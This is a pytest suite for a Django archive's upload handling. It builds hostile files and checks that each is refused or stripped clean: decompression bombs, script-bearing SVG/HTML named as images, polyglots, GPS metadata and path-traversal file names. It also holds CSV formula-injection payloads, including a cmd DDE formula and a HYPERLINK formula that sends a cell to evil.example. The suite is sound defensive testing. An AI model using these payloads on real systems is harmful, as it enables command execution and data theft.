"""A corpus of hostile files, made here, sent through every upload path: the item's screenshot
(KAU-DIARY-ACTION), the evidence before a removal (KAU-PROHIBITED-EVIDENCE) and the start page
(KAU-STARTPAGE), the three forms built on core.uploads.screenshot_field. Each file is either refused
with a reason on the file field and nothing stored (no row, no file, no ledger entry), or neutralised:
re-encoded, and every stored file read back with Pillow carries no EXIF, XMP, text chunk, comment,
colour profile or anything appended after the image. Kept files are served as images only.

Also the bulk import's upload (a file too large, not UTF-8, formula injection) and the name of an
uploaded file, which is never used to store anything and shown back only cleaned.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image, ImageCms, PngImagePlugin

from archive.models import LedgerEntry, Screenshot
from core.images import MAX_BYTES
from core.uploads import FILE_CSP, display_name
from moderation.models import Item, LogEntry
from tests.archive.screenshot_support import account, bomb_png, make_item, media_root, stored_files
from tests.conftest import Cast

__all__ = ["account", "make_item", "media_root"]

pytestmark = pytest.mark.django_db

GPS = (59.0, 22.0, 30.0)  # Karlstad
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="59,22.5N"/>'
    b"</rdf:RDF></x:xmpmeta>"
)
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
# What no stored file may hold, whatever came in: markup, script, archives, PDF, metadata.
FORBIDDEN_BYTES = (b"<script", b"<html", b"<svg", b"PK\x03\x04", b"%PDF", b"xmpmeta", b"Exif\x00\x00", b"GPS")
# Keys Pillow reports about the encoding itself, never about the picture's content or origin.
HARMLESS_INFO = {
    "jfif",
    "jfif_version",
    "jfif_unit",
    "jfif_density",
    "dpi",
    "progressive",
    "progression",
    "background",
    "duration",
    "loop",
    "timestamp",
}


# --- The corpus ---------------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(
    width: int, height: int, raw: bytes, *, depth: int = 8, colour: int = 2, extra: bytes = b""
) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + extra
        + _chunk(b"IDAT", zlib.compress(raw, 9))
        + _chunk(b"IEND", b"")
    )


def _photo(mode: str = "RGB", size: tuple[int, int] = (96, 64)) -> Image.Image:
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    return image.convert(mode) if mode != "RGB" else image


def _save(image: Image.Image, fmt: str, **options: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def _gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Kamera AB"
    exif.get_ifd(0x8825).update({1: "N", 2: GPS, 3: "E", 4: (13.0, 30.0, 0.0)})
    return exif


def _icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _animated(fmt: str, frames: int) -> bytes:
    images = [Image.new("RGB", (40, 30), (index * 5 % 255, 0, 0)) for index in range(frames)]
    return _save(images[0], fmt, save_all=True, append_images=images[1:], duration=20)


def _truncated(fmt: str) -> bytes:
    data = _save(Image.effect_noise((200, 150), 80).convert("RGB"), fmt)
    return data[: len(data) * 2 // 3]


@cache
def _idat_bomb() -> bytes:
    """1,000 by 1,000 pixels (3 MB decoded) whose IDAT inflates to 48 MB: the rest is never read."""
    return _png(1000, 1000, b"\0" * (48 * 1024 * 1024))


def _text_bomb() -> bytes:
    """A 10 by 10 PNG with a zTXt chunk that inflates to 50 MB (Pillow refuses text over 1 MB)."""
    ztxt = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * (50 * 1024 * 1024), 9))
    return _png(10, 10, (b"\0" + b"\0" * 30) * 10, extra=ztxt)


def _png_metadata() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("GPS", "59.3750,13.5000")
    info.add_text("Comment", "GPS 59.3750,13.5000", zip=True)
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    return _save(_photo(), "PNG", pnginfo=info, exif=_gps_exif(), icc_profile=_icc())


def _sixteen_bit_grey() -> bytes:
    # A left-to-right ramp of 16-bit greys, 0 to 64,000: straight to RGB, Pillow would clip it white.
    raw = b"".join(b"\0" + b"".join(struct.pack(">H", x * 1000) for x in range(65)) for _ in range(20))
    return _png(65, 20, raw, depth=16, colour=0)


def _sixteen_bit_rgb() -> bytes:
    raw = b"".join(b"\0" + struct.pack(">HHH", 40_000, 20_000, 1_000) * 30 for _ in range(20))
    return _png(30, 20, raw, depth=16, colour=2)


@dataclass(frozen=True)
class Hostile:
    kind: str  # the family it belongs to, for the count
    make: Callable[[], bytes]
    refused: bool


CORPUS: dict[str, Hostile] = {
    # Decompression bombs.
    "png claiming 900 megapixels": Hostile("decompression bomb", bomb_png, refused=True),
    "png over the pixel limit": Hostile(
        "decompression bomb", lambda: _png(8000, 6000, b"\0" * (8000 * 3 + 1)), refused=True
    ),
    "png with a zTXt zlib bomb": Hostile("decompression bomb", _text_bomb, refused=True),
    "gif with 300 frames": Hostile("decompression bomb", lambda: _animated("GIF", 300), refused=True),
    "png with an IDAT zlib bomb": Hostile("decompression bomb", _idat_bomb, refused=False),
    # Markup and documents named as images.
    "svg named .jpg": Hostile(
        "markup named as an image",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
        refused=True,
    ),
    "html named .png": Hostile("markup named as an image", lambda: HTML, refused=True),
    "pdf named .jpg": Hostile(
        "markup named as an image",
        lambda: b"%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF",
        refused=True,
    ),
    # Polyglots: a real image with something else after it.
    "jpeg with html appended": Hostile("polyglot", lambda: _save(_photo(), "JPEG") + HTML, refused=False),
    "png with a zip appended (gifar)": Hostile(
        "polyglot", lambda: _save(_photo(), "PNG") + b"PK\x03\x04" + b"\0" * 26 + b"evil.class", refused=False
    ),
    "jpeg with a pdf appended": Hostile(
        "polyglot", lambda: _save(_photo(), "JPEG") + b"%PDF-1.7\n%%EOF", refused=False
    ),
    # Damaged.
    "truncated png": Hostile("truncated", lambda: _truncated("PNG"), refused=True),
    "truncated jpeg": Hostile("truncated", lambda: _truncated("JPEG"), refused=True),
    "truncated webp": Hostile("truncated", lambda: _truncated("WEBP"), refused=True),
    # Metadata that would tell where a photo was taken.
    "jpeg with exif gps, xmp, comment and icc": Hostile(
        "metadata",
        lambda: _save(_photo(), "JPEG", exif=_gps_exif(), xmp=XMP, comment=b"GPS 59.375", icc_profile=_icc()),
        refused=False,
    ),
    "png with eXIf, text chunks and xmp": Hostile("metadata", _png_metadata, refused=False),
    "webp with exif and xmp": Hostile(
        "metadata", lambda: _save(_photo(), "WEBP", exif=_gps_exif(), xmp=XMP), refused=False
    ),
    # Unusual but honest images.
    "cmyk jpeg": Hostile("unusual encoding", lambda: _save(_photo("CMYK"), "JPEG"), refused=False),
    "16-bit grey png": Hostile("unusual encoding", _sixteen_bit_grey, refused=False),
    "16-bit rgb png": Hostile("unusual encoding", _sixteen_bit_rgb, refused=False),
    # Moving pictures: a screenshot is one still picture.
    "animated png": Hostile("animated", lambda: _animated("PNG", 3), refused=True),
    "animated webp": Hostile("animated", lambda: _animated("WEBP", 3), refused=True),
}

# Names a person's browser may send; none reaches the disk, and a page shows only a cleaned one.
HOSTILE_NAMES = [
    "../../etc/passwd.jpg",
    "..\\..\\windows\\win.ini.png",
    "bild\u202egnp.exe",
    "skarm\x00.png",
    "a" * 300 + ".png",
]


# --- The three upload paths ---------------------------------------------------------------------------


@dataclass(frozen=True)
class UploadPath:
    url: Callable[[Any], str]
    field: str
    form: str  # the context name of the form that shows the refusal


PATHS = {
    "item screenshot": UploadPath(
        lambda item: reverse("archive:item_screenshot", args=[item.pk]), "shot-image", "form"
    ),
    "evidence": UploadPath(
        lambda item: reverse("archive:item_evidence", args=[item.pk]), "evidence-image", "evidence_form"
    ),
    "start page": UploadPath(
        lambda item: reverse("archive:startpage", args=[item.account_id]), "image", "form"
    ),
}


def post(client: Client, path: UploadPath, item: Item, data: bytes, name: str = "skarmdump.jpg") -> Any:
    upload = SimpleUploadedFile(name, data, content_type="image/jpeg")
    return client.post(path.url(item), {path.field: upload})


def kept_state(media: Path) -> tuple[int, int, int, list[Path]]:
    evidence_logged = LogEntry.objects.filter(action=LogEntry.Action.EVIDENCE).count()
    return Screenshot.objects.count(), LedgerEntry.objects.count(), evidence_logged, stored_files(media)


def assert_clean(data: bytes) -> Image.Image:
    """A stored file is a plain image: it decodes, and carries nothing but pixels."""
    for marker in FORBIDDEN_BYTES:
        assert marker not in data, marker
    image = Image.open(io.BytesIO(data))
    image.load()
    assert image.format in {"PNG", "JPEG", "WEBP"}
    assert dict(image.getexif()) == {}
    assert set(image.info) <= HARMLESS_INFO, set(image.info) - HARMLESS_INFO
    assert not getattr(image, "text", {})  # no PNG text chunk of any kind
    assert image.mode == "RGB"
    return image


@pytest.fixture
def moderator(client: Client, cast: Cast) -> Client:
    client.force_login(cast["communicator"])  # owns the account: may upload on all three paths
    return client


@pytest.mark.parametrize("path_name", list(PATHS))
@pytest.mark.parametrize("case", list(CORPUS))
def test_every_hostile_file_is_refused_with_a_reason_or_neutralised_kau_diary_action(
    moderator: Client, make_item: Any, media_root: Path, case: str, path_name: str
) -> None:
    hostile, path = CORPUS[case], PATHS[path_name]
    item = make_item()
    before = kept_state(media_root)
    response = post(moderator, path, item, hostile.make())
    if hostile.refused:
        assert response.status_code == 400
        errors = response.context[path.form].errors["image"]
        assert errors
        assert all(error.strip() for error in errors)  # a reason a person can act on
        assert kept_state(media_root) == before  # no row, no file, no ledger entry, no log entry
        return
    assert response.status_code == 302, response.content[:500]
    shot = Screenshot.objects.get()
    files = stored_files(media_root)
    assert sorted(path.relative_to(media_root).as_posix() for path in files) == sorted(
        [shot.image.name, shot.stamped.name]
    )
    for stored in files:  # every stored file, the original and the stamped copy alike
        assert_clean(stored.read_bytes())
    assert shot.received_sha256 != shot.sha256  # what is kept was re-encoded, never the bytes as sent


def test_sixteen_bit_greys_keep_their_shades(moderator: Client, make_item: Any) -> None:
    """Straight to RGB, Pillow clips 16-bit values: the ramp would be kept all white."""
    item = make_item()
    assert post(moderator, PATHS["item screenshot"], item, _sixteen_bit_grey()).status_code == 302
    with Screenshot.objects.get().image.open("rb") as handle:
        image = assert_clean(handle.read())
    left, middle, right = (image.getpixel((x, 10)) for x in (1, 32, 63))
    assert left == (3, 3, 3)
    assert 120 <= middle[0] <= 130  # type: ignore[index]
    assert right[0] >= 240  # type: ignore[index]


def test_the_idat_bomb_is_decoded_only_as_far_as_its_pixels(moderator: Client, make_item: Any) -> None:
    item = make_item()
    data = _idat_bomb()
    assert len(data) < 100_000
    assert post(moderator, PATHS["evidence"], item, data).status_code == 302
    shot = Screenshot.objects.get()
    assert (shot.width, shot.height) == (1000, 1000)


@pytest.mark.parametrize("path_name", list(PATHS))
def test_a_file_over_the_size_limit_is_refused_on_the_field(
    moderator: Client, make_item: Any, media_root: Path, path_name: str
) -> None:
    path = PATHS[path_name]
    item = make_item()
    before = kept_state(media_root)
    response = post(moderator, path, item, b"\xff\xd8\xff\xe0" + b"\0" * MAX_BYTES)
    # The item pages refuse the declared length before reading the body (413); the start page reads it.
    assert response.status_code in {400, 413}
    assert "20 MB" in " ".join(response.context[path.form].errors["image"])
    assert kept_state(media_root) == before


@pytest.mark.parametrize("name", HOSTILE_NAMES)
@pytest.mark.parametrize("path_name", list(PATHS))
def test_the_uploaded_name_never_reaches_the_disk(
    moderator: Client, make_item: Any, media_root: Path, path_name: str, name: str
) -> None:
    item = make_item()
    data = _save(_photo(), "PNG")
    response = post(moderator, PATHS[path_name], item, data, name=name)
    assert response.status_code == 302
    shot = Screenshot.objects.get()
    for stored in stored_files(media_root):
        assert stored.resolve().is_relative_to(media_root.resolve())
        relative = stored.relative_to(media_root).as_posix()
        assert all(part not in relative for part in ("passwd", "win.ini", "..", "aaaa", "\u202e", "skarm"))
    assert shot.sha256 in shot.image.name


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.jpg", "passwd.jpg"),
        ("..\\..\\windows\\win.ini.png", "win.ini.png"),
        ("bild\u202egnp.exe", "bildgnp.exe"),
        ("skarm\x00.png", "skarm.png"),
        ("a" * 300 + ".csv", "a" * 100),
    ],
)
def test_a_name_is_shown_back_only_cleaned(name: str, shown: str) -> None:
    assert display_name(name) == shown


# --- Kept files are served as images only ---------------------------------------------------------------


@pytest.mark.parametrize("case", ["jpeg with html appended", "png with a zip appended (gifar)"])
def test_a_kept_file_is_served_as_its_image_type_sandboxed_and_never_sniffed(
    moderator: Client, make_item: Any, case: str
) -> None:
    item = make_item()
    assert post(moderator, PATHS["evidence"], item, CORPUS[case].make()).status_code == 302
    shot = Screenshot.objects.get()
    for url, content_type in (
        (reverse("archive:screenshot", args=[shot.pk]), shot.content_type),
        (reverse("archive:stamped", args=[shot.pk]), "image/png"),
    ):
        response = moderator.get(url)
        assert response.status_code == 200
        assert response["Content-Type"] == content_type
        assert content_type in {"image/png", "image/jpeg", "image/webp"}
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Disposition"].startswith('inline; filename="')
        assert response["Content-Disposition"].endswith(('.png"', '.jpg"', '.webp"'))
        policy = response["Content-Security-Policy"]
        assert policy == FILE_CSP
        assert "default-src 'none'" in policy
        assert "sandbox" in policy
        assert_clean(b"".join(response.streaming_content))  # type: ignore[attr-defined]


def test_the_media_folder_is_not_served(moderator: Client, make_item: Any, settings: Any) -> None:
    """Kept files are reached only through the views above, which check who may see them."""
    item = make_item()
    assert post(moderator, PATHS["item screenshot"], item, _save(_photo(), "PNG")).status_code == 302
    shot = Screenshot.objects.get()
    assert moderator.get("/" + settings.MEDIA_URL + shot.image.name).status_code == 404


# --- The bulk import's upload -------------------------------------------------------------------------


IMPORT_HEADER = "platform_id,kind,author,text,url,received_at\r\n"


def import_upload(client: Client, item: Item, data: bytes, name: str = "inlagg.csv") -> Any:
    url = reverse("moderation:import", args=[item.account_id])
    return client.post(url, {"file": SimpleUploadedFile(name, data, content_type="text/csv")})


def test_an_import_file_over_the_limit_is_refused_on_the_field(moderator: Client, make_item: Any) -> None:
    from moderation.imports import MAX_BYTES as IMPORT_MAX

    item = make_item()
    before = Item.objects.count()
    data = (IMPORT_HEADER + "x" * IMPORT_MAX).encode()
    response = import_upload(moderator, item, data)
    assert response.status_code == 400
    assert response.context["form"].errors["file"]
    assert Item.objects.count() == before


@pytest.mark.parametrize(
    "data",
    [
        (IMPORT_HEADER + "ig-1,comment,Åsa,Hej på dig,,2026-11-20 10:00\r\n").encode("latin-1"),
        (IMPORT_HEADER + "ig-1,comment,Åsa,Hej,,2026-11-20 10:00\r\n").encode("utf-16"),
        b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
    ],
    ids=["latin-1", "utf-16", "binary"],
)
def test_an_import_file_that_is_not_utf8_is_refused_and_named(
    moderator: Client, make_item: Any, data: bytes
) -> None:
    item = make_item()
    before = Item.objects.count()
    response = import_upload(moderator, item, data)
    assert response.status_code == 400
    assert any("UTF-8" in error.message for error in response.context["errors"])
    assert Item.objects.count() == before


def test_a_hostile_import_file_name_is_shown_cleaned(moderator: Client, make_item: Any) -> None:
    item = make_item()
    data = (IMPORT_HEADER + "ig-1,comment,Åsa,Hej,,2026-11-20 10:00\r\n").encode()
    response = import_upload(moderator, item, data, name="../../lista\u202evsc.exe")
    assert response.status_code == 200
    assert response.context["preview"]["filename"] == "listavsc.exe"
    assert "\u202e" not in response.content.decode()


FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "visitor;=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_injection_is_kept_as_text_and_exported_as_text(
    moderator: Client, cast: Cast, make_item: Any, make_account: Any, formula: str
) -> None:
    """Imported as the visitor wrote it (KAU-PUBLIC-RECORD: the record is kept as it was), and written
    to every CSV export quoted, with a leading apostrophe where a spreadsheet would read a formula,
    so that no spreadsheet runs it."""
    import csv

    from core import csvfile
    from moderation.imports import parse_items
    from tests.moderation.conftest import NOW

    text = f'"{formula}"'.replace("\r", "")  # a CR inside a CSV cell is a line end to the reader
    result = parse_items(
        (IMPORT_HEADER + f"ig-9,comment,{text},{text},,2026-11-20 10:00\r\n").encode(), now=NOW
    )
    assert result.is_clean, result.errors
    assert result.rows[0].author == formula.replace("\r", "").strip()
    # Every CSV writer (the registry, the response report, the archive's bag, the diary package)
    # goes through core.csvfile.
    written = csvfile.csv_text([[formula, "next"]])
    (row,) = csv.reader(io.StringIO(written[1:], newline=""), delimiter=";")
    assert row[1] == "next"  # a semicolon in the value does not start a new cell
    assert row[0] in {formula, "'" + formula}
    assert row[0][:1] not in {"\t", "\r"}
    assert row[0].lstrip()[:1] not in {"=", "+", "-", "@"}


def test_the_registry_export_writes_a_formula_name_as_text(
    moderator: Client, cast: Cast, make_account: Any
) -> None:
    import csv

    from accounts.models import Account

    account = make_account()
    Account.objects.filter(pk=account.pk).update(name='=HYPERLINK("http://evil.example/?"&A1,"Klicka")')
    client = Client()
    client.force_login(cast["social_media_lead"])
    response = client.get(reverse("accounts:export"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = [row[3] for row in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Klicka")' in names
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


def test_the_corpus_covers_every_kind_the_brief_names() -> None:
    """The figures the README quotes: how many hostile files of each kind, and what became of them."""
    kinds: dict[str, list[int]] = {}
    for hostile in CORPUS.values():
        refused, neutralised = kinds.setdefault(hostile.kind, [0, 0])
        kinds[hostile.kind] = [refused + hostile.refused, neutralised + (not hostile.refused)]
    assert set(kinds) == {
        "decompression bomb",
        "markup named as an image",
        "polyglot",
        "truncated",
        "metadata",
        "unusual encoding",
        "animated",
    }
    assert sum(refused for refused, _ in kinds.values()) == 12
    assert sum(neutralised for _, neutralised in kinds.values()) == 10
